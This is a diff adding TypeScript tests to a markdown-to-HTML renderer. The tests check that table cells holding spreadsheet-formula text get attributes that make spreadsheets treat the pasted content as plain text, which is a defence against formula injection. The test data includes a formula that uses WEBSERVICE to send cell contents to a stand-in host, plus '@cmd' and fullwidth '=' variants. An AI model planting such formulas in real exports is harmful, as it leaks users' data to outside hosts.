@@ -169,3 +169,20 @@ describe('Markdown as HTML', () => {
     expect(markdownHtml('$a_b < c$')).toBe('<p dir="auto"><code>$a_b &#60; c$</code></p>\n');
   });
 });
+
+describe('a cell of a table', () => {
+  const findCell = (text: string) => /<td[^>]*>/.exec(markdownHtml(`| a |\n|---|\n| ${text} |`))?.[0];
+
+  test.each(['=WEBSERVICE("https://sink.test/"&A1)', '`=1+1`', '**=1+1**', "@cmd('x')", '\\=1+1', '＝1+1'])(
+    'is text for a spreadsheet into which it is pasted: %s',
+    (text) => {
+      const cell = findCell(text);
+      expect(cell).toContain(`style="mso-number-format:'\\@'" sdnum="1033;0;@"`);
+      expect(cell).toContain('data-sheets-value="{&#34;1&#34;:2,');
+    },
+  );
+
+  test.each(['-200', '+49 40 1234', '@maria', '3 = 2 + 1'])('with no formula has no such mark: %s', (text) => {
+    expect(findCell(text)).toBe('<td dir="auto">');
+  });
+});
